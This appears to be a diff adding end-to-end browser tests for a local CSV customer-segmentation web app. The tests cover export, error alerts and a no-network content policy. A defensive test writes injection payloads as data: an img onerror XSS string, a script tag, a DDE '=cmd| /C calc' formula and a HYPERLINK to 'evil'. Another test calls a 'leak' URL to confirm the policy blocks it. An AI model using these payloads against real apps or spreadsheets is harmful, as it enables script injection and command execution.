@@ -1,0 +1,272 @@
+// End-to-end tests of the built app (dist/) in Debian's headless Chromium,
+// driven by playwright-core through the page's accessible names.
+//
+// Every page records every request it makes: after the app has loaded (it
+// adds its locked Content-Security-Policy), there must be none, and none to
+// another origin at any time. Real files: the sample, ../shared/data/*.csv
+// (skipped with a printed reason when absent) and hostile/broken files this
+// test writes to a temporary folder.
+//
+// Run: bash scripts/test.sh (builds dist/ first), or `node --test` here with
+// SEGSCOPE_DIST pointing at a built dist/.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import { readFileSync, existsSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { join, extname, resolve, dirname } from 'node:path';
+import { tmpdir } from 'node:os';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const root = resolve(here, '../..');
+const dist = process.env.SEGSCOPE_DIST ?? join(root, 'dist');
+const shared = resolve(root, '../shared/data');
+const tmp = mkdtempSync(join(tmpdir(), 'segscope-e2e-'));
+const timings = [];
+
+const MIME = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.csv': 'text/csv', '.png': 'image/png' };
+let server;
+let origin;
+let browser;
+
+before(async () => {
+  assert.ok(existsSync(join(dist, 'index.html')), `no built app at ${dist}: run trunk build --release first`);
+  server = createServer((req, res) => {
+    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
+    const file = resolve(dist, '.' + (path === '/' ? '/index.html' : path));
+    if (!file.startsWith(dist) || !existsSync(file)) {
+      res.writeHead(404).end();
+      return;
+    }
+    res.writeHead(200, { 'content-type': MIME[extname(file)] ?? 'application/octet-stream' });
+    res.end(readFileSync(file));
+  });
+  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
+  origin = `http://127.0.0.1:${server.address().port}`;
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
+    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
+      '--disable-component-update', '--disable-sync'],
+  });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.close();
+  if (timings.length) {
+    console.log('# Wall times in headless Chromium (as shown in the page):');
+    for (const t of timings) console.log(`#   ${t}`);
+  }
+});
+
+/** Opens the app in a fresh page; returns the page and its request log. */
+async function openApp() {
+  const context = await browser.newContext({ acceptDownloads: true });
+  const page = await context.newPage();
+  const log = { all: [], afterLoad: [], violations: [] };
+  let loaded = false;
+  page.on('request', (r) => {
+    log.all.push(r.url());
+    if (loaded) log.afterLoad.push(r.url());
+  });
+  page.on('pageerror', (e) => log.violations.push(`pageerror: ${e.message}`));
+  await page.goto(origin + '/');
+  await page.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  loaded = true;
+  return { page, log, context };
+}
+
+function assertPrivate(log) {
+  const foreign = log.all.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
+  assert.deepEqual(foreign, [], 'requests to another origin');
+  assert.deepEqual(log.afterLoad, [], 'requests after the app had loaded');
+}
+
+/** Waits for a finished run and checks scatter, table and timings; returns k. */
+async function expectResult(page, label) {
+  const table = page.getByRole('table', { name: 'Segment summary' });
+  await table.waitFor({ timeout: 120_000 });
+  await page.getByRole('progressbar').waitFor({ state: 'detached', timeout: 120_000 });
+  const rows = await table.locator('tbody tr').count();
+  const quality = await page.locator('.quality').innerText();
+  const k = Number(/in (\d+) segments/.exec(quality)[1]);
+  assert.equal(rows, k, `${label}: one summary row per segment`);
+  const canvas = page.getByRole('img', { name: 'PCA scatter plot' });
+  const pixels = await canvas.evaluate((c) => {
+    const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
+    const colours = new Set();
+    let coloured = 0;
+    for (let i = 0; i < d.length; i += 4) {
+      const [r, g, b] = [d[i], d[i + 1], d[i + 2]];
+      if (Math.max(r, g, b) - Math.min(r, g, b) > 40) {
+        coloured++;
+        colours.add(`${r >> 4},${g >> 4},${b >> 4}`);
+      }
+    }
+    return { coloured, colours: colours.size };
+  });
+  assert.ok(pixels.coloured > 20, `${label}: the scatter has coloured pixels (${pixels.coloured})`);
+  await page.waitForFunction(() => /render \d+ ms/.test(document.querySelector('.timings')?.textContent ?? ''));
+  timings.push((await page.locator('.timings').innerText()) + ` · k=${k}`);
+  return k;
+}
+
+async function download(page) {
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download assignments' }).click()]);
+  const path = join(tmp, `${Date.now()}-${dl.suggestedFilename()}`);
+  await dl.saveAs(path);
+  return { name: dl.suggestedFilename(), text: readFileSync(path, 'utf8') };
+}
+
+const lines = (t) => t.trimEnd().split('\n');
+
+test('the sample: scatter, one row per segment, export with one row per account, k input', async () => {
+  const { page, log, context } = await openApp();
+  await page.getByRole('button', { name: 'Load sample' }).click();
+  const k = await expectResult(page, 'sample');
+  assert.ok(k >= 2 && k <= 10);
+  const csv = await download(page);
+  assert.equal(csv.name, 'sample_trades-segments.csv');
+  const l = lines(csv.text);
+  assert.equal(l.length - 1, 3000, 'one row per account');
+  assert.match(l[0], /^account_id,segment,pc1,pc2,trade_count,/);
+  const segs = new Set(l.slice(1).map((r) => r.split(',')[1]));
+  assert.equal(segs.size, k);
+
+  await page.getByLabel('Segments (k)').fill('4');
+  await page.getByLabel('Segments (k)').press('Enter');
+  await page.getByLabel('Segments (k)').blur();
+  await page.waitForFunction(() => /in 4 segments/.test(document.querySelector('.quality')?.textContent ?? ''));
+  assert.equal(await expectResult(page, 'sample k=4'), 4);
+  assertPrivate(log);
+  await context.close();
+});
+
+const SHARED = [
+  { file: 'online_retail_2010-12.csv', accounts: 922 },
+  { file: 'dex_swaps_2021-06.csv', accounts: 2628 },
+  { file: 'mall_customers.csv', accounts: 200 },
+];
+
+for (const { file, accounts } of SHARED) {
+  test(`real file ${file}`, async (t) => {
+    const path = join(shared, file);
+    if (!existsSync(path)) {
+      console.log(`# SKIP ${file}: ${path} is absent (../shared/data is not next to this checkout)`);
+      t.skip(`${path} absent`);
+      return;
+    }
+    const { page, log, context } = await openApp();
+    await page.getByLabel('Upload data').setInputFiles(path);
+    await expectResult(page, file);
+    if (file.startsWith('online_retail')) {
+      const selected = async (label) => page.getByLabel(label, { exact: true }).evaluate((s) => s.selectedOptions[0].textContent);
+      assert.equal(await selected('Account id'), 'CustomerID');
+      assert.equal(await selected('Timestamp'), 'InvoiceDate');
+      assert.equal(await selected('Quantity'), 'Quantity');
+      assert.equal(await selected('Price'), 'UnitPrice');
+      assert.equal(await selected('Notional'), '(not used)');
+      const notes = await page.locator('.mapping .notes').innerText();
+      assert.match(notes, /day-first/);
+      assert.match(notes, /Notional computed as \|Quantity x UnitPrice\|/);
+    }
+    const csv = await download(page);
+    assert.equal(lines(csv.text).length - 1, accounts, 'one row per account');
+    if (file.startsWith('mall')) assert.match(lines(csv.text)[1], /^0001,/, 'ids keep their leading zeros');
+    assertPrivate(log);
+    await context.close();
+  });
+}
+
+test('hostile text stays text, and the export is guarded against formulas', async () => {
+  const path = join(tmp, 'hostile.csv');
+  const rows = ['customer_id,"<img src=x onerror=window.__pwned=1>",=cmd|\' /C calc\'!A0'];
+  const ids = ['=HYPERLINK("http://evil")', '@SUM(1)', '<script>window.__pwned=2</script>', '+1', 'plain'];
+  ids.forEach((id, i) => rows.push(`"${id.replaceAll('"', '""')}",${i * 3 + 1},${(i * 7) % 5}`));
+  writeFileSync(path, rows.join('\n') + '\n');
+  const { page, log, context } = await openApp();
+  await page.getByLabel('Upload data').setInputFiles(path);
+  await expectResult(page, 'hostile');
+  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no injected script ran');
+  const header = await page.getByRole('table', { name: 'Segment summary' }).locator('thead').innerText();
+  assert.ok(header.includes('<img src=x onerror=window.__pwned=1>'), 'header shown as text');
+  const csv = lines((await download(page)).text);
+  assert.ok(csv[0].includes(",'=cmd|' /C calc'!A0"), `header cell guarded: ${csv[0]}`);
+  const first = csv.slice(1).map((r) => r.split(',')[0]);
+  assert.ok(first.includes('"\'=HYPERLINK(""http://evil"")"'), `formula id guarded and quoted: ${first}`);
+  assert.ok(first.includes("'@SUM(1)") && first.includes("'+1") && first.includes('plain'));
+  assertPrivate(log);
+  await context.close();
+});
+
+const BROKEN = [
+  { name: 'empty.csv', body: '', alert: /file is empty/ },
+  { name: 'binary.csv', body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]), alert: /not a text file/ },
+  { name: 'header-only.csv', body: 'account_id,timestamp,side,qty,price\n', alert: /no data rows/ },
+  { name: 'no-header.csv', body: '1,2,3\n4,5,6\n7,8,9\n', alert: /looks like data, not column names/ },
+  { name: 'one-account.csv', body: 'account_id,timestamp,side,qty,price\na,2024-01-01T00:00:00Z,buy,1,10\na,2024-01-02T00:00:00Z,sell,2,11\n', alert: /Only one account/ },
+  { name: 'no-account.csv', body: 'timestamp,side,qty,price,leverage\n2024-01-01T00:00:00Z,buy,1,10,5\n2024-01-02T00:00:00Z,sell,2,11,3\n', alert: /No account column/ },
+  { name: 'constant.csv', body: 'customer_id,a,b\n1,5,7\n2,5,7\n3,5,7\n4,5,7\n', alert: /same value for all accounts/ },
+  { name: 'text-only.csv', body: 'customer_id,name,city\n1,Ann,Oslo\n2,Bob,Rome\n', alert: /no numeric column/ },
+];
+
+test('broken files give a clear alert, and the page keeps working', async () => {
+  const { page, log, context } = await openApp();
+  for (const b of BROKEN) {
+    const path = join(tmp, b.name);
+    writeFileSync(path, b.body);
+    await page.getByLabel('Upload data').setInputFiles(path);
+    const alert = page.getByRole('alert');
+    await alert.waitFor({ timeout: 30_000 });
+    const text = await alert.innerText();
+    assert.match(text, b.alert, `${b.name}: ${text}`);
+    assert.ok(text.startsWith(b.name), `${b.name}: the message names the file: ${text}`);
+  }
+  // Fewer accounts than k.
+  const few = join(tmp, 'three-customers.csv');
+  writeFileSync(few, 'customer_id,spend,visits\n1,10,2\n2,20,3\n3,35,1\n');
+  await page.getByLabel('Segments (k)').fill('5');
+  await page.getByLabel('Segments (k)').blur();
+  await page.getByLabel('Upload data').setInputFiles(few);
+  await page.getByRole('alert').filter({ hasText: 'Cannot make 5 segments from 3 accounts' }).waitFor({ timeout: 30_000 });
+  await page.getByLabel('Segments (k)').fill('');
+  await page.getByLabel('Segments (k)').blur();
+  // Missing, NaN and infinite cells are imputed and reported, not fatal.
+  const messy = join(tmp, 'messy.csv');
+  writeFileSync(messy, 'customer_id,spend,visits,age\n1,10,2,30\n2,,3,41\n3,NaN,1,inf\n4,40,null,25\n5,12,2,33\n6,90,9,60\n7,15,1,\n');
+  await page.getByLabel('Upload data').setInputFiles(messy);
+  await expectResult(page, 'messy');
+  assert.match(await page.locator('.data-notes').innerText(), /spend: 2 accounts have no value/);
+  // And the sample still works afterwards.
+  await page.getByRole('button', { name: 'Load sample' }).click();
+  await expectResult(page, 'sample after errors');
+  assert.equal(log.violations.length, 0, log.violations.join('\n'));
+  assertPrivate(log);
+  await context.close();
+});
+
+test('the locked policy blocks requests attempted from the page', async () => {
+  const { page, log, context } = await openApp();
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const attempt = async (f) => {
+      try {
+        await f();
+        return 'allowed';
+      } catch {
+        return 'blocked';
+      }
+    };
+    const foreign = await attempt(() => fetch('https://example.com/leak?data=1'));
+    const same = await attempt(() => fetch('/index.html'));
+    await new Promise((r) => setTimeout(r, 200));
+    return { foreign, same, violations };
+  });
+  assert.equal(outcome.foreign, 'blocked');
+  assert.equal(outcome.same, 'blocked', 'even same-origin requests are blocked after load');
+  assert.ok(outcome.violations.length >= 2, `violations reported: ${outcome.violations}`);
+  assertPrivate(log);
+  await context.close();
+});
